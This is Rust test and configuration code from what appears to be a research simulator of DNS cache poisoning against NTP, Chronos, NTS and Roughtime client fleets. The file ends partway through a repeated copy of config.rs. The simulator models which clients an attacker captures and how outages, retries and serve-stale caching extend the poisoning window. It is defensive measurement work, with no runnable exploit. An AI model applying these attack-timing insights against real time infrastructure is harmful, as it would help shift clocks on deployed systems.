        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert_eq!(report.tiers.len(), 2);
        let chronos_tier = &report.tiers[0];
        let plain_tier = &report.tiers[1];
        assert_eq!(chronos_tier.clients + plain_tier.clients, 64);
        assert_eq!(plain_tier.clients, 16, "3:1 split of 64");
        // Every Chronos client polls a poisoned pool and gets dragged.
        assert_eq!(chronos_tier.poisoned_clients, 48);
        assert!(chronos_tier.final_shifted_fraction > 0.9);
        // Plain clients: one resolution each; some landed pre-poison.
        assert!(plain_tier.poisoned_clients < 16, "early resolvers escaped");
        assert!(plain_tier.poisoned_clients > 0, "late resolvers captured");
        // A poisoned plain client's whole 4-server pool lies in unison —
        // it follows the lie; a clean one stays within the bound.
        let shifted = plain_tier.final_shifted_fraction;
        let poisoned_frac = plain_tier.poisoned_clients as f64 / 16.0;
        assert!(
            (shifted - poisoned_frac).abs() < 1e-9,
            "plain tier shifts exactly its poisoned share ({shifted} vs {poisoned_frac})"
        );
        // Per-client accessors agree with the balanced tier pattern
        // (shares [3, 1] interleave as A A B A, repeating).
        assert_eq!(fleet.client_kind(0), ClientKind::Chronos);
        assert_eq!(fleet.client_kind(1), ClientKind::Chronos);
        assert_eq!(fleet.client_kind(2), ClientKind::PlainNtp);
        assert_eq!(fleet.client_kind(3), ClientKind::Chronos);
        // Plain clients resolve once and never panic.
        assert_eq!(plain_tier.totals.pool_queries, 16);
        assert_eq!(plain_tier.totals.panics, 0);
        assert!(plain_tier.totals.polls > 0);
    }

    /// Partial poisoning across R resolvers: only the clients hashed onto
    /// the poisoned subset are captured.
    #[test]
    fn partial_resolver_poisoning_bounds_the_blast_radius() {
        let mut config = small_config();
        config.clients = 128;
        config.resolvers = 4;
        config.attack = Some(
            FleetAttack::paper_default(SimTime::from_secs(300), SimDuration::from_millis(500))
                .with_poisoned_resolvers(2),
        );
        let mut fleet = Fleet::new(config.clone());
        let report = fleet.run();
        // Exactly the clients behind resolvers 0-1 are poisoned.
        let behind_poisoned = (0..128).filter(|&i| fleet.client_resolver(i) < 2).count() as u64;
        assert_eq!(report.poisoned_clients, behind_poisoned);
        assert!(
            behind_poisoned > 0 && behind_poisoned < 128,
            "the hash split the fleet ({behind_poisoned}/128 behind poisoned resolvers)"
        );
        let captured = report.final_shifted_fraction;
        let poisoned_frac = behind_poisoned as f64 / 128.0;
        assert!(
            (captured - poisoned_frac).abs() < 0.1,
            "captured fraction {captured} tracks the poisoned-resolver share {poisoned_frac}"
        );
        // k = 0 poisons nobody; k = R poisons everyone (≡ None).
        config.attack = Some(config.attack.unwrap().with_poisoned_resolvers(0));
        assert_eq!(Fleet::new(config.clone()).run().poisoned_clients, 0);
        config.attack = Some(config.attack.unwrap().with_poisoned_resolvers(4));
        assert_eq!(Fleet::new(config).run().poisoned_clients, 128);
    }

    /// Per-tier Chronos overrides take effect: a fast-poll tier polls
    /// more often than the fleet-level default.
    #[test]
    fn tier_overrides_change_the_cadence() {
        let mut config = small_config();
        let mut fast = CohortTier::chronos("fast", 1);
        fast.poll_interval = Some(SimDuration::from_secs(16));
        fast.pool_size = Some(3);
        config.tiers = vec![CohortTier::chronos("default", 1), fast];
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        let default_tier = &report.tiers[0];
        let fast_tier = &report.tiers[1];
        // 3 pool rounds instead of 6, 4x the poll rate.
        assert_eq!(fast_tier.totals.pool_queries, 32 * 3);
        assert_eq!(default_tier.totals.pool_queries, 32 * 6);
        assert!(
            fast_tier.totals.polls > 2 * default_tier.totals.polls,
            "16 s polls out-poll 64 s polls: {} vs {}",
            fast_tier.totals.polls,
            default_tier.totals.polls
        );
    }

    // --- fault injection ---

    /// An explicitly-spelled-out all-zero fault plan is the *same run* as
    /// the default plan — every fault branch takes zero draws and zero
    /// side effects, so turning the machinery on without any fault rates
    /// cannot perturb a single client.
    #[test]
    fn inert_fault_plan_is_byte_identical_to_legacy() {
        let mut config = small_config();
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        config.record_trajectories = true;
        let mut legacy = Fleet::new(config.clone());
        let legacy_report = legacy.run();
        config.faults = FaultPlan {
            all_tiers: TierFaults::default(),
            tiers: vec![TierFaults {
                ntp_loss: 0.0,
                dns_servfail: 0.0,
            }],
            outages: Vec::new(),
            // A stale policy alone is inert: stale answers only exist
            // once something fails.
            serve_stale: Some(ServeStalePolicy::default()),
            retry: crate::config::RetryPolicy::default(),
        };
        let mut spelled = Fleet::new(config);
        let spelled_report = spelled.run();
        assert_eq!(
            format!("{legacy_report:?}"),
            format!("{spelled_report:?}"),
            "inert plan must not perturb the run"
        );
        assert_eq!(
            spelled_report.faults,
            crate::stats::FaultCounters::default()
        );
        for i in 0..64 {
            assert_eq!(legacy.trace(i), spelled.trace(i), "client {i}");
        }
    }

    /// Heavy sample loss starves rounds below `2·trim + 1`, which drives
    /// the real decision core through TooFewSamples rejects into genuine
    /// panic episodes.
    #[test]
    fn sample_loss_drives_rejects_and_panics() {
        let mut config = small_config();
        config.faults.all_tiers.ntp_loss = 0.8;
        let report = Fleet::new(config).run();
        assert!(report.faults.ntp_losses > 0, "losses were drawn");
        assert!(report.totals.rejects > 0, "starved rounds reject");
        assert!(report.totals.panics > 0, "K rejects escalate to panic");
        assert_eq!(report.faults.dns_servfails, 0, "DNS was untouched");
    }

    /// SERVFAIL on every query consumes every Chronos pool round without
    /// admitting anything: clients finish generation with empty pools and
    /// free-run (polls never count against an empty pool).
    #[test]
    fn servfail_consumes_rounds_and_counts() {
        let mut config = small_config();
        config.faults.all_tiers.dns_servfail = 1.0;
        let report = Fleet::new(config).run();
        assert_eq!(report.faults.dns_servfails, report.totals.pool_queries);
        assert_eq!(report.totals.pool_failures, report.totals.pool_queries);
        assert_eq!(report.faults.stale_served, 0, "nothing was ever cached");
        assert_eq!(report.poisoned_clients, 0);
        assert_eq!(report.synced_clients, 64, "rounds are consumed regardless");
        assert_eq!(report.totals.polls, 0, "empty pools never poll");
        assert_eq!(report.totals.accepts, 0);
    }

    /// The robustness/security interaction the retry lane exists to
    /// capture: without faults every plain-NTP boot resolves *before* the
    /// attack lands and the tier stays clean; a boot-time resolver outage
    /// pushes the retries into the poison window and the whole tier is
    /// captured. Availability faults widen the paper's one-shot plain-NTP
    /// poisoning opportunity.
    #[test]
    fn plain_retry_rides_an_outage_into_the_poison_window() {
        let mut config = small_config();
        config.tiers = vec![
            CohortTier::chronos("chronos", 1),
            CohortTier::plain_ntp("plain", 1),
        ];
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(120),
            SimDuration::from_millis(500),
        ));
        let clean = Fleet::new(config.clone()).run();
        assert_eq!(
            clean.tiers[1].poisoned_clients, 0,
            "every boot precedes the attack"
        );
        // The single resolver is down for the first 150 s — longer than
        // the whole boot stagger.
        config.faults.outages = vec![vec![OutageWindow {
            start_ns: 0,
            duration_ns: 150 * 1_000_000_000,
        }]];
        let report = Fleet::new(config).run();
        let plain = &report.tiers[1];
        assert_eq!(
            plain.poisoned_clients as usize, plain.clients,
            "retries landed inside the poison window"
        );
        assert!(plain.faults.boot_retries > 0, "boots retried");
        assert!(plain.faults.outage_hits > 0, "the outage was observed");
        assert_eq!(
            report.tiers[0].faults.boot_retries, 0,
            "chronos lanes never boot-retry"
        );
    }

    /// RFC 8767 serve-stale bridges a mid-window outage for Chronos
    /// pools: expired benign entries are re-served as stale answers, so
    /// no round fails outright and the fleet stays synced.
    #[test]
    fn serve_stale_bridges_an_outage_for_chronos_pools() {
        let mut config = small_config();
        // Prime the cache, then take the resolver down across most of the
        // remaining pool window (benign TTL is 150 s, so the cached batch
        // expires early in the outage).
        config.faults.outages = vec![vec![OutageWindow {
            start_ns: 250 * 1_000_000_000,
            duration_ns: 900 * 1_000_000_000,
        }]];
        config.faults.serve_stale = Some(ServeStalePolicy {
            max_stale_secs: 3600,
        });
        let report = Fleet::new(config).run();
        assert!(
            report.faults.stale_served > 0,
            "stale answers bridged the outage"
        );
        assert!(report.faults.outage_hits > 0);
        assert_eq!(report.totals.pool_failures, 0, "no round failed outright");
        assert_eq!(report.synced_clients, 64);
        assert!(
            report.final_shifted_fraction < 0.1,
            "benign stale answers keep the fleet synced ({})",
            report.final_shifted_fraction
        );
    }

    // --- secure tiers (E18) ---

    const G: u64 = 1_000_000_000;

    /// The NTS attack surface in one pair of runs: an association (NTS-KE
    /// resolution) inside the poison window hands the whole key lifetime
    /// to the attacker, while associations concluded *before* the poison
    /// are unspoofable for as long as the keys live — the same attack
    /// that captures every Chronos client mid-generation doesn't move an
    /// already-associated NTS client at all.
    #[test]
    fn nts_capture_is_bounded_by_the_association_window() {
        let mut config = small_config();
        config.tiers = vec![CohortTier::chronos("chronos", 1), CohortTier::nts("nts", 1)];
        // Poison precedes every boot: each NTS-KE handshake is with the
        // attacker's servers, and the minted keys authenticate the
        // attacker's time for the (day-long) key lifetime.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::ZERO,
            SimDuration::from_millis(500),
        ));
        let early = Fleet::new(config.clone()).run();
        let nts = &early.tiers[1];
        assert_eq!(nts.secure.captured_associations as usize, nts.clients);
        assert_eq!(nts.secure.rekeys as usize, nts.clients, "boot only");
        assert_eq!(nts.poisoned_clients as usize, nts.clients);
        assert!(
            nts.final_shifted_fraction > 0.9,
            "captured associations steer the tier: {}",
            nts.final_shifted_fraction
        );
        // Poison lands after every boot (stagger spreads boots over the
        // first 100 s) but still mid-Chronos-pool-generation: Chronos
        // tiers are captured as always, NTS tiers don't budge — their
        // only DNS-dependent step already happened.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(150),
            SimDuration::from_millis(500),
        ));
        let late = Fleet::new(config).run();
        let (chronos, nts) = (&late.tiers[0], &late.tiers[1]);
        assert_eq!(chronos.poisoned_clients as usize, chronos.clients);
        assert!(chronos.final_shifted_fraction > 0.9);
        assert_eq!(nts.secure.captured_associations, 0);
        assert_eq!(nts.poisoned_clients, 0);
        assert_eq!(nts.final_shifted_fraction, 0.0, "post-boot poison is inert");
        assert!(nts.totals.accepts > 0, "the tier kept syncing normally");
    }

    /// RFC 8767 serve-stale as a poison launderer: the attack's cache
    /// entry expired long before the NTS re-key boundary, but an outage
    /// at the boundary makes the resolver re-serve the *expired poisoned*
    /// record (it is the latest cache write), so the re-key associates to
    /// the attacker after the poison window already closed — stale
    /// service extends the attacker's reach beyond the record's TTL.
    #[test]
    fn serve_stale_launders_expired_poison_into_an_nts_rekey() {
        let mut config = small_config();
        config.clients = 8;
        config.stagger = SimDuration::ZERO;
        config.horizon = SimDuration::from_secs(1_100);
        let mut nts = CohortTier::nts("nts", 1);
        nts.rekey_interval = Some(SimDuration::from_secs(600));
        nts.key_lifetime = Some(SimDuration::from_secs(3_600));
        config.tiers = vec![nts];
        // A short boot-retry chain (all phantom attempts land before
        // 300 s) so no phantom benign fetch re-primes the cache between
        // the poison's expiry and the re-key boundary.
        config.faults.retry = crate::config::RetryPolicy {
            base: SimDuration::from_secs(32),
            cap: SimDuration::from_secs(256),
            jitter: 0.25,
            max_attempts: 4,
        };
        // Poison lives [50 s, 560 s) — boots at 0 s are clean, and the
        // 600 s re-key is past the poison's expiry.
        config.attack = Some(FleetAttack {
            ttl_secs: 510,
            ..FleetAttack::paper_default(SimTime::from_secs(50), SimDuration::from_millis(500))
        });
        let clean = Fleet::new(config.clone()).run();
        assert_eq!(
            clean.secure.captured_associations, 0,
            "the re-key sees fresh benign records"
        );
        assert_eq!(clean.final_shifted_fraction, 0.0);
        assert_eq!(clean.secure.rekeys, 16, "boot + one clean re-key each");
        // Same run with the resolver down across the boundary and
        // serve-stale configured: the stale answer is the poisoned one.
        config.faults.outages = vec![vec![OutageWindow {
            start_ns: 590 * G,
            duration_ns: 30 * G,
        }]];
        config.faults.serve_stale = Some(ServeStalePolicy {
            max_stale_secs: 3_600,
        });
        let report = Fleet::new(config).run();
        assert_eq!(
            report.secure.captured_associations, 8,
            "every re-key was laundered into an attacker association"
        );
        assert!(report.faults.stale_served >= 8);
        assert_eq!(report.secure.rekeys, 16);
        assert!(
            report.final_shifted_fraction > 0.9,
            "the laundered keys steer the tier: {}",
            report.final_shifted_fraction
        );
    }

    /// The availability/security interaction on the NTS re-key lane: a
    /// resolver outage at the boundary hard-fails the NTS-KE resolution
    /// (no serve-stale), and the capped-exponential retry chain walks
    /// right past the attack's landing time — the re-key that would have
    /// concluded safely at 600 s instead associates inside the poison
    /// window. Availability faults widen the NTS association surface
    /// exactly as they widen plain-NTP boots.
    #[test]
    fn outage_retries_walk_an_nts_rekey_into_the_poison_window() {
        let mut config = small_config();
        config.clients = 8;
        config.stagger = SimDuration::ZERO;
        config.horizon = SimDuration::from_secs(1_100);
        let mut nts = CohortTier::nts("nts", 1);
        nts.rekey_interval = Some(SimDuration::from_secs(600));
        nts.key_lifetime = Some(SimDuration::from_secs(3_600));
        config.tiers = vec![nts];
        // Boot-retry phantom fetches must all land (and their cache
        // entries expire) before the outage opens at 590 s, so the 600 s
        // re-key is a genuine cache miss.
        config.faults.retry = crate::config::RetryPolicy {
            base: SimDuration::from_secs(32),
            cap: SimDuration::from_secs(256),
            jitter: 0.25,
            max_attempts: 4,
        };
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(700),
            SimDuration::from_millis(500),
        ));
        let clean = Fleet::new(config.clone()).run();
        assert_eq!(
            clean.secure.captured_associations, 0,
            "the 600 s re-key precedes the 700 s attack"
        );
        assert_eq!(clean.final_shifted_fraction, 0.0);
        // Outage [590 s, 710 s): the boundary fails, and the backoff
        // chain (32, 64, 128 s) retries until it lands after the attack.
        config.faults.outages = vec![vec![OutageWindow {
            start_ns: 590 * G,
            duration_ns: 120 * G,
        }]];
        let report = Fleet::new(config).run();
        assert_eq!(
            report.secure.captured_associations, 8,
            "every retry chain re-associated inside the poison window"
        );
        assert!(report.faults.boot_retries > 0, "the boundary retried");
        assert!(report.faults.outage_hits > 0, "the outage was observed");
        assert!(
            report.final_shifted_fraction > 0.9,
            "walked-in associations steer the tier: {}",
            report.final_shifted_fraction
        );
    }

    /// Roughtime's redundancy argument, plus its M = 1 failure mode
    /// (ETH2 Medalla) in the same run: with M = 3 sources fanned over 3
    /// distinct resolvers, poisoning one resolver captures exactly one
    /// source per client and the 2-honest majority out-votes it every
    /// fetch; with M = 1 the lone source *is* the client's resolver, and
    /// the captured third of the tier follows the attacker blindly —
    /// nothing is ever detected.
    #[test]
    fn roughtime_majority_rides_out_a_poisoned_resolver() {
        let mut config = small_config();
        config.clients = 48;
        config.resolvers = 3;
        let mut redundant = CohortTier::roughtime("rt-3", 1);
        redundant.sources = Some(3);
        let mut medalla = CohortTier::roughtime("rt-1", 1);
        medalla.sources = Some(1);
        config.tiers = vec![redundant, medalla];
        config.attack = Some(
            FleetAttack::paper_default(SimTime::ZERO, SimDuration::from_millis(500))
                .with_poisoned_resolvers(1),
        );
        let report = Fleet::new(config).run();
        let (rt3, rt1) = (&report.tiers[0], &report.tiers[1]);
        assert_eq!(
            rt3.secure.captured_associations as usize, rt3.clients,
            "each M = 3 client holds exactly one captured source"
        );
        assert_eq!(rt3.final_shifted_fraction, 0.0, "majority out-votes it");
        assert_eq!(rt3.secure.detected_inconsistencies, 0);
        assert!(rt3.totals.accepts > 0, "cross-checked fetches kept landing");
        assert!(
            rt1.final_shifted_fraction > 0.15 && rt1.final_shifted_fraction < 0.6,
            "the resolver-0 share of the M = 1 tier is captured: {}",
            rt1.final_shifted_fraction
        );
        assert_eq!(rt1.secure.detected_inconsistencies, 0, "nothing to vote");
        assert_eq!(
            rt1.secure.captured_associations, rt1.poisoned_clients,
            "capture = the lone source behind the poisoned cache"
        );
    }

    /// An even source split (M = 2, one captured) has no strict majority:
    /// every fetch is a *detected* inconsistency — counted, never applied
    /// — so the clock freewheels rather than follow the attacker.
    #[test]
    fn roughtime_even_split_is_detected_not_followed() {
        let mut config = small_config();
        config.clients = 16;
        config.resolvers = 2;
        let mut tier = CohortTier::roughtime("rt-2", 1);
        tier.sources = Some(2);
        config.tiers = vec![tier];
        config.attack = Some(
            FleetAttack::paper_default(SimTime::ZERO, SimDuration::from_millis(500))
                .with_poisoned_resolvers(1),
        );
        let report = Fleet::new(config).run();
        assert!(report.secure.detected_inconsistencies > 0);
        assert_eq!(
            report.secure.detected_inconsistencies, report.totals.rejects,
            "every inconsistency is a rejected round"
        );
        assert_eq!(report.totals.accepts, 0, "no majority, no corrections");
        assert_eq!(
            report.final_shifted_fraction, 0.0,
            "a detected split never steers the clock"
        );
    }
}
