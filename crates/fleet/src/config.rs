//! Fleet configuration.

use crate::cohort::{CohortTier, TierParams};
use chronos::config::{ChronosConfig, PoolGenConfig};
use dnslab::zone::{POOL_ADDRS_PER_RESPONSE, POOL_NTP_TTL};
use netsim::time::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};

/// The shared DNS-poisoning attack against the fleet's resolvers.
///
/// This is the population view of the paper's E1/E4/E8 attacks: *how* the
/// record lands in the cache (fragmentation, BGP interception, blind
/// spoofing) is the packet-level crates' subject; the fleet models the
/// consequence every mechanism shares — a poisoned `pool.ntp.org` entry
/// sitting in a resolver cache for its (attacker-chosen, huge) TTL,
/// served to **every client** whose pool-generation round falls inside
/// that window. With [`FleetConfig::resolvers`] > 1,
/// [`FleetAttack::poisoned_resolvers`] bounds *which* caches the attacker
/// reached — the knob behind E16's fraction-of-resolvers-poisoned sweep.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FleetAttack {
    /// When the poisoned entry lands in the cache(s).
    pub at: SimTime,
    /// TTL of the poisoned records, seconds (paper: 86 401).
    pub ttl_secs: u32,
    /// Malicious A records per poisoned response (paper: 89).
    pub farm_size: usize,
    /// The time shift the malicious farm serves, ns (paper: ±500 ms+).
    pub shift_ns: i64,
    /// How many of the fleet's resolvers the attacker poisoned: resolvers
    /// `0..k` carry the entry, the rest stay clean. `None` poisons every
    /// resolver (the single-resolver legacy semantics).
    pub poisoned_resolvers: Option<usize>,
}

impl FleetAttack {
    /// The paper's default: an 89-server farm, day-long TTL, shifting by
    /// `shift`, every resolver poisoned.
    pub fn paper_default(at: SimTime, shift: SimDuration) -> Self {
        FleetAttack {
            at,
            ttl_secs: 86_401,
            farm_size: 89,
            shift_ns: shift.as_nanos() as i64,
            poisoned_resolvers: None,
        }
    }

    /// The same attack landing in only the first `k` resolver caches.
    pub fn with_poisoned_resolvers(self, k: usize) -> Self {
        FleetAttack {
            poisoned_resolvers: Some(k),
            ..self
        }
    }

    /// Whether resolver `r` is in the poisoned subset.
    pub fn poisons_resolver(&self, r: usize) -> bool {
        self.poisoned_resolvers.is_none_or(|k| r < k)
    }

    /// The poison window in nanoseconds: `[at, at + ttl)`.
    pub fn window_ns(&self) -> (u64, u64) {
        let from = self.at.as_nanos();
        (
            from,
            from.saturating_add(u64::from(self.ttl_secs) * 1_000_000_000),
        )
    }
}

/// Configuration of a client population run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FleetConfig {
    /// Fleet RNG seed; every client stream derives from it and the
    /// client's global id.
    pub seed: u64,
    /// Number of clients simulated.
    pub clients: usize,
    /// Global id of the first client. A fleet of N clients starting at id
    /// G steps clients G..G+N identically to any other slicing that covers
    /// them — the hook the equivalence proptests pin.
    pub first_client_id: u64,
    /// The Chronos parameters every client runs (pool cadence, sampling,
    /// §V mitigation knobs — all honoured) unless its tier overrides them.
    pub chronos: ChronosConfig,
    /// Population tiers (client kind, share, per-tier overrides — see
    /// [`CohortTier`]). Empty means the homogeneous legacy fleet: one
    /// implicit all-Chronos tier running the fleet-level `chronos` config.
    /// Clients map onto tiers by the balanced
    /// [`crate::cohort::TierAssignment`] pattern over their global ids.
    pub tiers: Vec<CohortTier>,
    /// Number of independent resolvers the fleet's clients hash onto
    /// (each with its own rotation phase, TTL draw and poisoned-or-not
    /// flag — see [`crate::resolver::ResolverModel::for_resolver`]).
    /// `1` (the default) reproduces the single-resolver engine exactly.
    pub resolvers: usize,
    /// Size of the benign server universe behind the pool rotation. Must
    /// be a multiple of `per_response` and at most `64 × per_response`.
    pub universe: usize,
    /// Addresses per benign DNS response (pool.ntp.org serves 4).
    pub per_response: usize,
    /// TTL of benign pool records (the shared cache holds one batch this
    /// long; pool.ntp.org uses 150 s).
    pub benign_ttl: SimDuration,
    /// Benign server clock imperfection: max |offset| in ms (per-sample
    /// mean-field draw).
    pub benign_offset_ms: u64,
    /// Max |drift| of a client's local clock, ppm (drawn per client).
    pub client_drift_ppm: f64,
    /// Standard deviation of per-sample path noise.
    pub jitter_std: SimDuration,
    /// Clients start pool generation staggered uniformly over this span
    /// (real fleets boot at independent times).
    pub stagger: SimDuration,
    /// `true`: all clients share one resolver cache (one poisoning hits
    /// everyone; benign batches are cached across clients). `false`: every
    /// client resolves independently — the mode where fleet members are
    /// provably independent of each other.
    pub shared_cache: bool,
    /// The attack, if any.
    pub attack: Option<FleetAttack>,
    /// A client counts as *shifted* when |clock error| exceeds this bound
    /// (the paper's 100 ms safety bound).
    pub safety_bound: SimDuration,
    /// Cadence of the fraction-shifted time series.
    pub sample_every: SimDuration,
    /// Record per-client offset trajectories (small fleets / tests only:
    /// this is the memory cost the aggregate outputs exist to avoid).
    pub record_trajectories: bool,
    /// Default run length for [`crate::engine::Fleet::run`].
    pub horizon: SimDuration,
    /// Worker threads stepping shards inside one
    /// [`crate::engine::Fleet::run_until`] call: `1` (the default) steps
    /// shards sequentially on the calling thread, `0` uses every available
    /// core. A pure wall-clock knob — results are byte-identical for every
    /// value, which the determinism proptests pin.
    pub threads: usize,
    /// Clients per shard, the unit of intra-fleet parallelism. Per-client
    /// outcomes and the counting aggregates (histogram bins, shifted
    /// series, totals) are shard-layout-invariant; only the streaming P²
    /// quantile *estimates* depend on the decomposition (each shard feeds
    /// its own estimator and the report merges them in shard order), so
    /// quantiles are comparable across runs at equal `shard_size` only.
    pub shard_size: usize,
}

/// Default clients per shard: small enough that a 100k-client fleet yields
/// ~25 stealable work units for a handful of cores, large enough that the
/// fixed per-shard machinery (a timer wheel's slot arrays, scratch
/// buffers) stays well under 1 % of the column footprint.
pub const DEFAULT_SHARD_SIZE: usize = 4096;

impl Default for FleetConfig {
    fn default() -> Self {
        FleetConfig {
            seed: 1,
            clients: 10_000,
            first_client_id: 0,
            tiers: Vec::new(),
            resolvers: 1,
            chronos: ChronosConfig {
                poll_interval: SimDuration::from_secs(64),
                pool: PoolGenConfig {
                    queries: 12,
                    query_interval: SimDuration::from_secs(200),
                    ..PoolGenConfig::default()
                },
                ..ChronosConfig::default()
            },
            universe: 240,
            per_response: POOL_ADDRS_PER_RESPONSE,
            benign_ttl: SimDuration::from_secs(u64::from(POOL_NTP_TTL)),
            benign_offset_ms: 2,
            client_drift_ppm: 10.0,
            jitter_std: SimDuration::from_micros(500),
            stagger: SimDuration::from_secs(200),
            shared_cache: true,
            attack: None,
            safety_bound: SimDuration::from_millis(100),
            sample_every: SimDuration::from_secs(60),
            record_trajectories: false,
            horizon: SimDuration::from_secs(4_000),
            threads: 1,
            shard_size: DEFAULT_SHARD_SIZE,
        }
    }
}

/// Upper bound on [`FleetConfig::resolvers`]: resolver ids live in a u16
/// state column.
pub const MAX_RESOLVERS: usize = u16::MAX as usize + 1;

impl FleetConfig {
    /// Rotation batches in the benign universe.
    pub fn rotation_batches(&self) -> usize {
        self.universe / self.per_response
    }

    /// The tier list with the empty-tiers default resolved: either the
    /// configured tiers, or the one implicit all-Chronos tier (labelled
    /// `"chronos"`, share 1) every pre-cohort fleet ran.
    pub fn effective_tiers(&self) -> Vec<TierParams> {
        if self.tiers.is_empty() {
            vec![TierParams::resolve(
                &crate::cohort::CohortTier::chronos("chronos", 1),
                &self.chronos,
            )]
        } else {
            self.tiers
                .iter()
                .map(|t| TierParams::resolve(t, &self.chronos))
                .collect()
        }
    }

    /// Validates internal consistency.
    ///
    /// # Panics
    ///
    /// Panics when the configuration cannot be simulated: zero clients, a
    /// universe that is not a whole number of response batches (or more
    /// than 64 of them — the per-client dedup bitmap's width), or an
    /// inconsistent Chronos config.
    pub fn validate(&self) {
        assert!(self.clients > 0, "a fleet needs at least one client");
        assert!(self.per_response > 0, "responses must carry addresses");
        assert!(
            self.universe.is_multiple_of(self.per_response),
            "universe {} must be a multiple of per_response {}",
            self.universe,
            self.per_response
        );
        assert!(
            self.rotation_batches() >= 1 && self.rotation_batches() <= 64,
            "rotation batches {} outside the 1..=64 dedup-bitmap range",
            self.rotation_batches()
        );
        assert!(
            !self.sample_every.is_zero(),
            "sample cadence must be positive"
        );
        assert!(self.shard_size > 0, "shards need at least one client");
        assert!(
            self.resolvers >= 1 && self.resolvers <= MAX_RESOLVERS,
            "resolver count {} outside 1..={MAX_RESOLVERS} (u16 column)",
            self.resolvers
        );
        assert!(self.tiers.len() <= 255, "at most 255 tiers (u8 column)");
        for tier in &self.tiers {
            assert!(tier.share >= 1, "tier '{}' has zero share", tier.label);
            if tier.kind == crate::cohort::ClientKind::PlainNtp {
                assert!(
                    tier.pool_size.is_none_or(|n| n >= 1),
                    "plain tier '{}' keeps zero servers",
                    tier.label
                );
            }
        }
        for params in self.effective_tiers() {
            params.chronos.validate();
        }
        self.chronos.validate();
    }

    /// Resolved intra-fleet worker count: `threads`, with `0` mapped to
    /// the machine's available parallelism.
    pub fn effective_threads(&self) -> usize {
        if self.threads == 0 {
            netsim::par::default_threads()
        } else {
            self.threads
        }
    }

    /// A seed-independent hash of the configuration *shape*: two configs
    /// with equal fingerprints differ at most in `seed` or `threads`, so
    /// their fleets are interchangeable containers for pooling (same
    /// client count, same columns — only the streams re-derive on reset,
    /// and the thread count never changes results).
    pub fn structural_fingerprint(&self) -> u64 {
        let mut shape = self.clone();
        shape.seed = 0;
        shape.threads = 0;
        netsim::pool::fingerprint_str(&format!("{shape:?}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_validates() {
        let cfg = FleetConfig::default();
        cfg.validate();
        assert_eq!(cfg.rotation_batches(), 60);
    }

    #[test]
    fn fingerprint_ignores_seed_and_threads_only() {
        let a = FleetConfig::default();
        let b = FleetConfig {
            seed: 999,
            threads: 8,
            ..FleetConfig::default()
        };
        let c = FleetConfig {
            clients: 11,
            ..FleetConfig::default()
        };
        let d = FleetConfig {
            shard_size: 128,
            ..FleetConfig::default()
        };
        assert_eq!(a.structural_fingerprint(), b.structural_fingerprint());
        assert_ne!(a.structural_fingerprint(), c.structural_fingerprint());
        assert_ne!(
            a.structural_fingerprint(),
            d.structural_fingerprint(),
            "shard size shapes the quantile stream, so it is structural"
        );
        // The cohort knobs are structural too: a different tier mix or
        // resolver count is a different simulation.
        let tiered = FleetConfig {
            tiers: vec![
                crate::cohort::CohortTier::chronos("chronos", 3),
                crate::cohort::CohortTier::plain_ntp("plain", 1),
            ],
            ..FleetConfig::default()
        };
        let multi_resolver = FleetConfig {
            resolvers: 8,
            ..FleetConfig::default()
        };
        assert_ne!(a.structural_fingerprint(), tiered.structural_fingerprint());
        assert_ne!(
            a.structural_fingerprint(),
            multi_resolver.structural_fingerprint()
        );
    }

    #[test]
    fn effective_tiers_default_to_one_chronos_tier() {
        let cfg = FleetConfig::default();
        let tiers = cfg.effective_tiers();
        assert_eq!(tiers.len(), 1);
        assert_eq!(tiers[0].label, "chronos");
        assert_eq!(tiers[0].kind, crate::cohort::ClientKind::Chronos);
        assert_eq!(tiers[0].chronos, cfg.chronos, "inherits the fleet config");
    }

    #[test]
    #[should_panic(expected = "resolver count")]
    fn zero_resolvers_rejected() {
        FleetConfig {
            resolvers: 0,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "zero share")]
    fn zero_tier_share_rejected() {
        let mut tier = crate::cohort::CohortTier::chronos("t", 1);
        tier.share = 0;
        FleetConfig {
            tiers: vec![tier],
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    fn threads_resolve_and_shard_size_validates() {
        let auto = FleetConfig {
            threads: 0,
            ..FleetConfig::default()
        };
        assert!(auto.effective_threads() >= 1);
        let fixed = FleetConfig {
            threads: 3,
            ..FleetConfig::default()
        };
        assert_eq!(fixed.effective_threads(), 3);
    }

    #[test]
    #[should_panic(expected = "at least one client")]
    fn zero_shard_size_rejected() {
        FleetConfig {
            shard_size: 0,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    fn attack_window_is_ttl_long() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(1000), SimDuration::from_millis(500));
        let (from, until) = attack.window_ns();
        assert_eq!(from, 1_000_000_000_000);
        assert_eq!(until - from, 86_401_000_000_000);
        assert_eq!(attack.farm_size, 89);
        assert_eq!(attack.shift_ns, 500_000_000);
    }

    #[test]
    #[should_panic(expected = "multiple of per_response")]
    fn ragged_universe_rejected() {
        FleetConfig {
            universe: 241,
            ..FleetConfig::default()
        }
        .validate();
    }

    #[test]
    #[should_panic(expected = "dedup-bitmap")]
    fn oversized_universe_rejected() {
        FleetConfig {
            universe: 400,
            ..FleetConfig::default()
        }
        .validate();
    }
}
