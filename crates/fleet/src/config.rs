//! Fleet configuration.

use crate::cohort::{CohortTier, TierParams};
use chronos::config::{ChronosConfig, PoolGenConfig};
use dnslab::zone::{POOL_ADDRS_PER_RESPONSE, POOL_NTP_TTL};
use netsim::time::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};

/// The shared DNS-poisoning attack against the fleet's resolvers.
///
/// This is the population view of the paper's E1/E4/E8 attacks: *how* the
/// record lands in the cache (fragmentation, BGP interception, blind
/// spoofing) is the packet-level crates' subject; the fleet models the
/// consequence every mechanism shares — a poisoned `pool.ntp.org` entry
